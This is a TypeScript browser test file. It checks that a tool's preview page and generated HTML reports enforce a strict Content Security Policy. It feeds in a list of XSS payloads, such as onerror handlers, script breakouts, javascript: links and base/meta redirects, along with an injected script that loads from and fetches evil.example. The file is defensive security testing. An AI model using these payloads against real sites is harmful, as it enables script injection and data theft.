import assert from "node:assert/strict";
import path from "node:path";
import type { Browser, Page, Request } from "playwright-core";
import { check, shownIn } from "../../src/core";
import { previewPage } from "../../src/extension/preview/page";
import { buildCommand, watermelon } from "../cli/command";
import { folderWith, removeFolders } from "../cli/folder";
import { PageOnDisk } from "./page-on-disk";
import { PreviewInBrowser, startBrowser } from "./preview-in-browser";
import { themes } from "./themes";

/** Names that would do something, were they ever taken for more than text. */
const names = [
  "<img src=x onerror='owned=1'>",
  "</script><script>owned=1</script>",
  "</noscript><script>owned=1</script>",
  "]]><svg onload='owned=1'>",
  "<a href='javascript:owned=1'>go</a>",
  "javascript:owned=1",
  "[go](javascript:owned=1) ![x](https://evil.example/x.png)",
  "<base href='https://evil.example/'>",
  "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
  "<iframe srcdoc='<script>parent.owned=1</script>'></iframe>",
  "<style>@import 'https://evil.example/x.css';</style>",
  "{{owned=1}} ⟦data⟧ <!-- -->",
];

const hostile = JSON.stringify({
  version: 1,
  name: names.join(" "),
  owner: names[0],
  demand: {
    interval: "30 min",
    contacts: 210,
    mix: names.map((name, at) => ({
      class: name,
      title: name,
      share: `${100 / names.length}%`,
      handle_time: `${200 + at * 20} s`,
      tone: at % 2 ? "heated" : "routine",
      owner: name,
    })),
  },
  targets: [
    ...names.map(name => ({
      id: name,
      metric: "aht",
      at_most: "300 s",
      applies_to: [name],
      level: "agent",
      rationale: name,
    })),
    ...names.map((name, at) => ({ id: `own${at}`, metric: name, at_least: name, formula: name })),
  ],
});

/** What of a policy allows: by its directives. */
function policyOf(html: string): ReadonlyMap<string, readonly string[]> {
  const [, content] = /<meta http-equiv="Content-Security-Policy" content="([^"]+)">/.exec(html)!;
  return new Map(
    content!
      .split(";")
      .map(each => each.trim().split(/\s+/))
      .map(([name, ...sources]) => [name!, sources]),
  );
}

function assertStrict(html: string, scripts: RegExp): void {
  const policy = policyOf(html);
  assert.deepEqual(policy.get("default-src"), ["'none'"]);
  for (const name of ["base-uri", "form-action"]) assert.deepEqual(policy.get(name), ["'none'"], name);
  for (const [name, sources] of policy) {
    for (const source of sources)
      assert.doesNotMatch(source, /unsafe|\*|^data:|^https?:$|strict-dynamic|wasm/, `${name} ${source}`);
  }
  const allowed = policy.get("script-src")!;
  assert.equal(allowed.length, 1);
  assert.match(allowed[0]!, scripts);
}

/** Puts into the page what an attacker would who got in: none of it may run or ask for anything. */
const breakIn = `(async () => {
  const put = html => document.body.insertAdjacentHTML("beforeend", html);
  put("<img src=x onerror='owned=1'>");
  put("<svg onload='owned=1'></svg><details open ontoggle='owned=1'>x</details>");
  put("<iframe srcdoc='<script>parent.owned=1</script>'></iframe>");
  put("<base href='https://evil.example/'>");
  put("<a id=evil-link href='javascript:owned=1'>x</a><form id=evil-form action='https://evil.example/' method=post></form>");
  const script = document.createElement("script");
  script.textContent = "owned=1";
  document.body.append(script);
  const far = document.createElement("script");
  far.src = "https://evil.example/x.js";
  document.body.append(far);
  const timed = document.createElement("div");
  timed.setAttribute("onclick", "owned=1");
  document.body.append(timed);
  timed.click();
  document.getElementById("evil-link").click();
  document.getElementById("evil-form").submit();
  await fetch("https://evil.example/").catch(() => undefined);
  await new Promise(done => setTimeout(done, 200));
})()`;

async function assertNothingRuns(page: Page, errors: readonly string[]): Promise<void> {
  const asked: Request[] = [];
  page.on("request", request => asked.push(request));
  const address = page.url();
  const before = errors.length;
  await page.evaluate(breakIn);
  assert.equal(await page.evaluate("typeof owned"), "undefined");
  assert.equal(page.url(), address);
  const sent = asked.filter(each => each.failure()?.errorText !== "csp").map(each => each.url());
  assert.deepEqual(
    sent.filter(url => !url.startsWith("about:")),
    [],
    "what is asked for is held back by the policy",
  );
  assert.ok(
    errors.slice(before).filter(each => /Content Security Policy/.test(each)).length >= 5,
    errors.slice(before).join("\n"),
  );
}

describe("hostile names under the content security policy", function () {
  this.timeout(180_000);
  let browser: Browser;

  before(async () => {
    buildCommand();
    browser = await startBrowser();
  });
  after(async () => {
    removeFolders();
    await browser?.close();
  });

  it("find a strict policy", () => {
    const html = previewPage({ script: "s.js", style: "s.css", source: "https://webview.example", nonce: "n0nce" });
    assertStrict(html, /^'nonce-n0nce'$/);
  });

  it("run nothing in the preview, nor does what breaks in", async () => {
    const preview = await PreviewInBrowser.open(browser, { theme: themes.dark });
    await preview.show(shownIn("en", "file:///x.targets.yaml", await check(hostile, { today: "2026-11-28" }), 0));
    assert.ok((await preview.page.locator("#view").textContent())!.includes(names[0]!));
    assert.deepEqual(preview.errors, []);
    assert.equal(await preview.page.evaluate("typeof owned"), "undefined");
    await assertNothingRuns(preview.page, preview.errors);
    await preview.page.close();
  });

  it("run nothing in the report, nor does what breaks in", async () => {
    const folder = folderWith({ "evil.targets.yaml": hostile, "b.targets.yaml": hostile });
    const { code, stderr } = await watermelon(["report", folder, "--out", path.join(folder, "out")]);
    assert.equal(code, 0, stderr);
    for (const name of ["evil", "index"]) {
      const { page, errors, asked } = await PageOnDisk.open(browser, path.join(folder, "out", `${name}.html`));
      assertStrict(await page.content(), /^'sha256-[\w+/]{43}='$/);
      assert.deepEqual([errors, asked], [[], []]);
      assert.equal(await page.evaluate("typeof owned"), "undefined");
      await assertNothingRuns(page, errors);
      await page.close();
    }
  });
});
